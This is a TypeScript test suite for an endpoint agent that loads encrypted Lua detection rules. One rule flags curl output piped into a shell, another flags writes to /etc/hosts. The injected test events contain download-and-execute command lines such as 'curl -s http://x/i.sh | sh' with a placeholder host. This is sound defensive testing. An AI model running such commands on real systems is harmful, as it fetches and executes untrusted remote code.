import { afterEach, beforeEach, describe, expect, setDefaultTimeout, test } from "bun:test";
import type { AgentEvent } from "../../core/agent/events.ts";
import type { ContentHandler } from "../../core/handler/contract.ts";
import { disposeAgent, makeVendor, type Vendor } from "../../test/fixtures/vendor.ts";
import {
  type LuaTestAgent,
  rulesPayload,
  startLuaAgent,
  type TestKey,
  testKey,
} from "../_shared/lua/testkit.ts";
import { productRulesFeedHandler } from "../ProductRulesFeed/index.ts";
import { behaviorHandler } from "./index.ts";

// Each test starts an agent with real host processes; a loaded CI machine needs more than 5 s.
setDefaultTimeout(30_000);

const handlers = [behaviorHandler, productRulesFeedHandler] as ContentHandler[];
const QUIET = { sensor: { processes: false, connections: false } };

const PRODUCT = {
  proc: `
local M = {}
local shells = { bash = true, sh = true, dash = true, zsh = true }
function M.basename(p) return (p:match("([^/]+)$")) or p end
function M.is_shell(p) return p ~= nil and shells[M.basename(p)] == true end
return M`,
};

const RULES = {
  "curl-to-shell": `
describe{ title = "Download piped into a shell", severity = "high", mitre = "T1059.004" }
on("process.start", function(e)
  if product.proc.is_shell(e.exe) and e.cmdline:find("curl", 1, true) and e.cmdline:find("|", 1, true) then
    detect{ pid = e.pid, cmdline = e.cmdline }
  end
end)`,
  "hosts-write": `
describe{ title = "hosts file modified", severity = "medium" }
on("file.write", function(e)
  if e.path == "/etc/hosts" then detect{ path = e.path, writer = e.exe } end
end, { coalesce = { window = 60, key = { "path", "exe" } } })`,
};

let vendor: Vendor;
let key: TestKey;
let t: LuaTestAgent | undefined;

beforeEach(async () => {
  vendor = await makeVendor();
  key = testKey();
});
afterEach(async () => {
  await disposeAgent(t);
  t = undefined;
  vendor.cleanup();
});

async function releaseBoth(behaviorVersion = 1, rules: Record<string, string> = RULES) {
  await vendor.release("ProductRulesFeed", 1, rulesPayload("ProductRulesFeed", PRODUCT, key));
  await vendor.release(
    "Behavior",
    behaviorVersion,
    rulesPayload("Behavior", rules, key, { settings: { requiresProduct: true, ...QUIET } }),
  );
}

const inject = (events: unknown[]) =>
  t!.agent.call("Behavior", "inject", { events }) as Promise<{
    detections: { rule: string; title: string; severity: string; fields: Record<string, unknown> }[];
    disabled: string[];
    filtered: number;
  }>;

describe("Behavior handler in an agent", () => {
  test("signed, encrypted rules and product library install; events raise detections on the event stream", async () => {
    await releaseBoth();
    t = await startLuaAgent(vendor, handlers, { key });
    const seen: AgentEvent[] = [];
    t.agent.events.subscribe((e) => {
      if (e.type === "detection") seen.push(e);
    });
    const report = await t.agent.update();
    expect(report.rejected).toEqual([]);
    expect(report.installed.map((i) => i.type).sort()).toEqual(["Behavior", "ProductRulesFeed"]);

    const r = await inject([
      {
        type: "process.start",
        pid: 4242,
        exe: "/usr/bin/bash",
        cmdline: "bash -c curl -s http://x/i.sh | sh",
      },
      { type: "process.start", pid: 4243, exe: "/usr/bin/python3", cmdline: "python3 curl | x" },
      { type: "file.write", path: "/etc/hosts", exe: "/usr/bin/vi", time: 1000 },
      { type: "file.write", path: "/etc/hosts", exe: "/usr/bin/vi", time: 2000 },
    ]);
    expect(r.detections.map((d) => [d.rule, d.severity])).toEqual([
      ["curl-to-shell", "high"],
      ["hosts-write", "medium"],
    ]);
    expect(seen).toHaveLength(2);
    expect(seen[0]).toMatchObject({
      handler: "Behavior",
      rule: "curl-to-shell",
      title: "Download piped into a shell",
      fields: { pid: 4242 },
      event: { pid: 4242 },
    });
    expect(await t.agent.call("Behavior", "status", {})).toMatchObject({
      rules: 2,
      libraryVersion: 1,
      detections: 2,
      subscribedTypes: ["file.write", "process.start"],
    });
    expect(await t.agent.call("ProductRulesFeed", "functions", {})).toEqual({
      version: 1,
      modules: [{ module: "proc", functions: ["basename", "is_shell"] }],
    });
  });

  test("Behavior loaded before its library waits, then runs once ProductRulesFeed arrives", async () => {
    await vendor.release(
      "Behavior",
      1,
      rulesPayload("Behavior", RULES, key, { settings: { requiresProduct: true, ...QUIET } }),
    );
    t = await startLuaAgent(vendor, handlers, { key });
    await t.agent.update();
    const held = (await inject([
      { type: "process.start", pid: 1, exe: "/bin/sh", cmdline: "sh -c curl x | sh" },
    ])) as unknown as { queued: number };
    expect(held.queued).toBe(1);
    expect(await t.agent.call("Behavior", "status", {})).toMatchObject({
      waitingFor: "ProductRulesFeed",
      pendingEvents: 1,
    });

    const detected = new Promise<AgentEvent>((resolve) =>
      t!.agent.events.subscribe((e) => e.type === "detection" && resolve(e)),
    );
    await vendor.release("ProductRulesFeed", 1, rulesPayload("ProductRulesFeed", PRODUCT, key));
    await t.agent.update();
    // The held event ran when the library arrived.
    expect((await detected).rule).toBe("curl-to-shell");
    const status = (await t.agent.call("Behavior", "status", {})) as Record<string, unknown>;
    expect(status.libraryVersion).toBe(1);
    expect(status.waitingFor).toBeUndefined();
  });

  test("a rule that keeps faulting is disabled while the other rules keep detecting", async () => {
    await releaseBoth(1, {
      ...RULES,
      spin: `on("process.start", function(e) while true do end end)`,
      "nil-index": `on("file.write", function(e) return e.nothing.here end)`,
    });
    t = await startLuaAgent(vendor, handlers, { key });
    await t.agent.update();
    const disabledEvents: AgentEvent[] = [];
    t.agent.events.subscribe((e) => {
      if (e.type === "rule-disabled") disabledEvents.push(e);
    });
    const events = Array.from({ length: 4 }, (_, i) => ({
      type: "process.start",
      pid: i,
      exe: "/bin/sh",
      cmdline: "curl x | sh",
    }));
    const r = await inject([
      ...events,
      ...[1, 2, 3].map((i) => ({ type: "file.write", path: `/tmp/${i}`, exe: "x", time: i })),
    ]);
    expect(r.detections.filter((d) => d.rule === "curl-to-shell")).toHaveLength(4);
    expect(r.disabled.sort()).toEqual(["nil-index", "spin"]);
    expect(disabledEvents.map((e) => e.rule).sort()).toEqual(["nil-index", "spin"]);

    const stats = (await t.agent.call("Behavior", "stats", {})) as {
      rules: { name: string; calls: number; faults: number; disabled: boolean; lastError: string | null }[];
    };
    const spin = stats.rules.find((s) => s.name === "spin")!;
    expect(spin).toMatchObject({
      calls: 3,
      faults: 3,
      disabled: true,
      lastError: "instruction budget exceeded",
    });
    expect(stats.rules.find((s) => s.name === "nil-index")?.lastError).toContain(
      "attempt to index a nil value",
    );
    // The agent is still healthy and still detects.
    const again = await inject([
      { type: "process.start", pid: 9, exe: "/bin/bash", cmdline: "curl y | bash" },
    ]);
    expect(again.detections).toHaveLength(1);
    expect(t.agent.status().health).toBe("green");
  });

  test("tampered ciphertext is rejected naming the file; the live version keeps running", async () => {
    await releaseBoth();
    t = await startLuaAgent(vendor, handlers, { key });
    await t.agent.update();
    await vendor.release(
      "Behavior",
      2,
      rulesPayload("Behavior", RULES, key, {
        settings: { requiresProduct: true, ...QUIET },
        tamper: "hosts-write",
      }),
    );
    const report = await t.agent.update();
    expect(report.rejected).toHaveLength(1);
    expect(report.rejected[0]).toMatchObject({ type: "Behavior", code: "HND_RULES_DECRYPT_FAILED" });
    expect(report.rejected[0]!.reason).toContain("lua/hosts-write.lua.enc");
    expect(t.agent.content().find((c) => c.type === "Behavior")?.version).toBe(1);
    const r = await inject([{ type: "process.start", pid: 1, exe: "/bin/sh", cmdline: "curl | sh" }]);
    expect(r.detections).toHaveLength(1);
  });

  test("rules sealed with a key the agent does not hold, or shipped in plaintext, are refused", async () => {
    t = await startLuaAgent(vendor, handlers, { key });
    const other = testKey("rotated-2");
    await vendor.release("Behavior", 1, rulesPayload("Behavior", RULES, other, { settings: QUIET }));
    let report = await t.agent.update();
    expect(report.rejected[0]).toMatchObject({ code: "HND_RULES_KEY_UNKNOWN" });
    expect(report.rejected[0]!.reason).toContain("rotated-2");

    const plain = rulesPayload("Behavior", RULES, key, { settings: QUIET });
    plain["lua/extra.lua"] = new TextEncoder().encode("return 1");
    await vendor.release("Behavior", 2, plain);
    report = await t.agent.update();
    expect(report.rejected[0]).toMatchObject({ code: "HND_RULES_NOT_ENCRYPTED" });
  });

  test("a rule that fails to load rejects the package, naming the rule's file", async () => {
    t = await startLuaAgent(vendor, handlers, { key });
    await vendor.release(
      "Behavior",
      1,
      rulesPayload("Behavior", { ok: RULES["hosts-write"], broken: "on('x', function() end" }, key, {
        settings: QUIET,
      }),
    );
    const report = await t.agent.update();
    expect(report.rejected[0]).toMatchObject({ code: "HND_RULE_LOAD_FAILED" });
    expect(report.rejected[0]!.reason).toContain("lua/broken.lua.enc");
  });

  test("the /proc sensor turns a real process start into a detection", async () => {
    const marker = `outpost-sensor-${process.pid}-${Date.now()}`;
    await vendor.release(
      "Behavior",
      1,
      rulesPayload(
        "Behavior",
        {
          marker: `on("process.start", function(e)
            if e.cmdline:find("${marker}", 1, true) then detect{ title = "marker seen", pid = e.pid } end
          end)`,
        },
        key,
        { settings: { sensor: { processes: true, connections: false, intervalMs: 50 } } },
      ),
    );
    t = await startLuaAgent(vendor, handlers, { key });
    await t.agent.update();
    const detected = new Promise<AgentEvent>((resolve) =>
      t!.agent.events.subscribe((e) => e.type === "detection" && resolve(e)),
    );
    const child = Bun.spawn(["sh", "-c", `read x # ${marker}`], { stdin: "pipe" });
    try {
      const d = await detected;
      expect(d).toMatchObject({ rule: "marker", title: "marker seen", fields: { pid: child.pid } });
      expect((d.event as { cmdline: string }).cmdline).toContain(marker);
    } finally {
      child.kill();
      await child.exited;
    }
  });
});
